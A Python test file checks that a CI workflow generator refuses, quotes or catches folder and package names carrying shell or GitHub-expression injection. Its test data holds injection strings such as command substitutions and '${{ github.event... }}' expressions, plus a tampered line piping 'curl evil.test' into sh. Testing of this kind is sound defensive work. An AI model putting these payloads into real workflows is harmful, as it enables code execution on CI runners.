"""`ix ci init` puts names from the lab (its path, the experiments' folders, the battery's
path) into a workflow: none of them becomes code (issue 31, item 5). A name GitHub or a shell
would read as more than a name is refused, naming the field; every other name reaches the
shell as one word, run here by real bash (GitHub's `run:`) and sh (GitLab's `script:`); and
the text is parsed back before it is used. In process: `plan_workflow` is what the command
calls (test_ci_init_cli.py holds the command's contract: exit 2, nothing written)."""

import os
import shutil
import stat
import subprocess
from pathlib import Path
from types import SimpleNamespace

import pytest

from conftest import mock_experiment, write  # type: ignore[attr-defined]
from ix.api.integrations import ci
from ix.domain.errors import ConfigError

HOSTILE = [
    "e${{ github.event.pull_request.title }}",  # GitHub substitutes it inside any quotes
    "e$(touch pwned)", "e`touch pwned`", "e'x", 'e"x',
    "e\nname: pwned", "e\rx", "e\u2028x", "e\u202ex",  # line breaks, a bidi override
    "-e", "~root",  # read as an option, as a home folder
]
#: Names a careless quote would run or split, that quoted right are just names.
ODD = ["a b", "e$HOME", "e${HOME}", "e;touch pwned", "e&&id", "e|id", "e{x}", "e #x",
       "e: x", "é ü", "e\\n", "e!x", "e~", "e%x", "e<x>", "e=x", "e]"]
#: Names a YAML 1.2 reader (GitHub's) takes for a number or a boolean unless quoted: they
#: matter where a folder is a whole value, the lab being the repository's root.
NUMERIC = ["1e3", "0o17", "true", "null", ".5"]


def _repo(tmp_path: Path, lab: str, experiment: str) -> tuple[Path, Path]:
    """A repository folder holding a lab (at `lab`, relative to the root) with one mock
    experiment in the folder `experiment`."""
    root = tmp_path / "repo"
    lab_dir = root / lab
    lab_dir.mkdir(parents=True, exist_ok=True)
    made = mock_experiment(lab_dir, "exp", n_must=1, n_not=1, n_edge=0, trials=1)
    if experiment != "exp":
        made.rename(lab_dir / experiment)
    return root, lab_dir


# --------------------------------------------------------------------------- refused


@pytest.mark.parametrize("name", HOSTILE, ids=repr)
def test_a_name_github_a_shell_or_yaml_would_read_is_refused_naming_its_field(tmp_path, name):
    root, lab = _repo(tmp_path, "lab", name)
    for platform in ci.PLATFORMS:
        with pytest.raises(ConfigError) as caught:
            ci.plan_workflow("lab", platform=platform, experiments=[name], baseline="base",
                             cwd=root)
        assert caught.value.field == "experiment" and repr(f"lab/{name}") in caught.value.message
        assert "\n" not in caught.value.render() and "\r" not in caught.value.render()
    # the same name as the battery's file, then as the lab's folder
    battery = write(root / f"{name}.yaml", "name: nightly\nexperiments: [exp]\nseeds: 1\n")
    (lab / name).rename(lab / "exp")
    with pytest.raises(ConfigError) as caught:
        ci.plan_workflow("lab", battery=battery, platform="gitlab", cwd=root)
    assert caught.value.field == "--battery" and repr(f"{name}.yaml") in caught.value.message
    lab.rename(root / name)
    with pytest.raises(ConfigError) as caught:
        ci.plan_workflow(root / name, baseline="base", cwd=root)
    assert caught.value.field == "--lab" and f"{name!r} holds" in caught.value.message


@pytest.mark.parametrize("install", ["ix-lab\nfoo: bar", "${{ github.event.issue.title }}"])
def test_an_install_line_with_a_line_break_or_an_expression_is_refused(tmp_path, install):
    root, _ = _repo(tmp_path, "lab", "exp")
    with pytest.raises(ConfigError) as caught:
        ci.plan_workflow("lab", install=install, cwd=root)
    assert caught.value.field == "--install"


def test_a_plugin_distribution_pip_would_not_read_is_refused():
    """Its name and version come from an installed package's metadata, into the install
    line: checked like a name."""
    def plan(distribution: str, version: str) -> SimpleNamespace:
        return SimpleNamespace(subjects=[], plugins=[SimpleNamespace(
            distribution=distribution, version=version)])

    assert ci._requirement([plan("ix-plugin-x", "1.0")], ()).endswith(" ix-plugin-x==1.0")
    for distribution, version in (("x${{ github.token }}", "1"), ("x", "1\nfoo: bar"),
                                  ("x", "1$(id)")):
        with pytest.raises(ConfigError) as caught:
            ci._requirement([plan(distribution, version)], ())
        assert caught.value.field == "--install"


# --------------------------------------------------------------------------- quoted


def _fake_ix(folder: Path) -> Path:
    """An `ix` that records its working folder and arguments (NUL-separated, one record per
    call) instead of running, and makes the file its --out names (a summary step reads it)."""
    folder.mkdir()
    program = folder / "ix"
    program.write_text("#!/bin/sh\nprintf '%s\\0' \"$(pwd -P)\" \"$@\" >> \"$IX_ARGV_LOG\"\n"
                       "printf '\\036' >> \"$IX_ARGV_LOG\"\n"
                       "prev=; for a in \"$@\"; do [ \"$prev\" = --out ] && : > \"$a\"; "
                       "prev=$a; done\n")
    program.chmod(program.stat().st_mode | stat.S_IXUSR)
    return folder


def _calls(log: Path) -> list[list[str]]:
    records = log.read_bytes().decode().split("\x1e")[:-1] if log.exists() else []
    return [record.split("\0")[:-1] for record in records]


def _shell(shell: str, script: str, cwd: Path, env: dict[str, str]) -> None:
    done = subprocess.run([shell, "-e", "-c", script], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=60)
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("lab_at,names", [("labs/my lab $HOME;x", ODD), (".", NUMERIC)])
def test_every_other_name_reaches_bash_and_sh_as_one_word(tmp_path, schema_check, lab_at,
                                                          names):
    """GitHub: each `run:` in bash from its `working-directory`; GitLab: the script in sh.
    The fake `ix` must see each name as one argument, from the folder the name names."""
    root, lab = _repo(tmp_path, lab_at, names[0])
    for name in names[1:]:
        shutil.copytree(lab / names[0], lab / name)
    bin_dir = _fake_ix(tmp_path / "bin")
    log = tmp_path / "argv"
    env = {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "IX_ARGV_LOG": str(log),
           "GITHUB_WORKSPACE": str(root.resolve()), "CI_PROJECT_DIR": str(root.resolve()),
           "HOME": str(tmp_path / "home"), "GITHUB_STEP_SUMMARY": str(tmp_path / "summary")}
    lab_rel = lab.resolve().relative_to(root.resolve()).as_posix() or "."
    for name in names:
        folder = str((lab / name).resolve())
        report = str(root.resolve() / "ix-reports" / f"{name}.html")
        summary = str(root.resolve() / "ix-reports" / f"{name}.md")
        want = [[str(root.resolve()), "run", "--lab", lab_rel, name],
                [folder, "report", "--baseline", "base", "--format", "html", "--out", report],
                [folder, "report", "--baseline", "base", "--format", "github", "--out",
                 summary]]
        for platform, shell in (("github", "bash"), ("gitlab", "sh")):
            flow = ci.plan_workflow(lab_at, platform=platform, experiments=[name],
                                    baseline="base", cwd=root)
            document, errors = schema_check(platform, flow.text)  # read as YAML 1.2
            assert errors == []
            log.unlink(missing_ok=True)
            if platform == "github":
                steps = [s for s in document["jobs"]["ix"]["steps"] if "run" in s]
                assert steps[-2]["name"] == f"Gate {name} against base"
                assert steps[-1]["name"] == f"Summarise {name}"
                for step in steps[1:]:  # the install step is pip's
                    _shell(shell, step["run"], root / step.get("working-directory", "."), env)
            else:
                script = document["ix"]["script"]
                _shell(shell, "\n".join(script[1:]), root, env)
            assert _calls(log) == want, (platform, name)


# --------------------------------------------------------------------------- read back


def test_the_text_is_parsed_back_and_a_workflow_that_says_more_is_never_returned(
        tmp_path, monkeypatch):
    """The net under the checks and the quoting: with both taken away, an expression or a
    line break that reaches the text is caught when it is read back."""
    from ix.api.integrations import ci_text

    name = "e${{ github.event.pull_request.title }}"
    root, lab = _repo(tmp_path, "lab", name)
    monkeypatch.setattr(ci, "check_name", lambda name, field, what: name)
    with pytest.raises(ConfigError, match=r"does not read back as generated \(an expression"):
        ci.plan_workflow("lab", experiments=[name], baseline="base", cwd=root)
    shutil.move(lab, root / "l\nfoo: bar")
    monkeypatch.setitem(ci_text._ENV.filters, "literal",
                        lambda text, indent: "|\n" + " " * indent + text)
    monkeypatch.setitem(ci_text._ENV.filters, "yaml", str)
    for platform in ci.PLATFORMS:
        with pytest.raises(ConfigError, match="does not read back as generated"):
            ci.plan_workflow("l\nfoo: bar", platform=platform, baseline="base", cwd=root)
    # and read_back itself: one added key, one changed command
    monkeypatch.undo()
    shutil.move(root / "l\nfoo: bar", root / "lab")
    (root / "lab" / name).rename(root / "lab" / "exp")
    flow = ci.plan_workflow("lab", baseline="base", cwd=root)
    args = {"command": flow.command, "install": flow.install, "schedule": flow.schedule,
            "python": ci.DEFAULT_PYTHON, "gates": flow.gates, "secrets": flow.secrets}
    ci_text.read_back("github", flow.text, **args)
    for bad in (flow.text + "env:\n  X: y\n",
                flow.text.replace("--lab lab", "--lab lab; curl evil.test | sh")):
        with pytest.raises(ConfigError, match="does not read back"):
            ci_text.read_back("github", bad, **args)
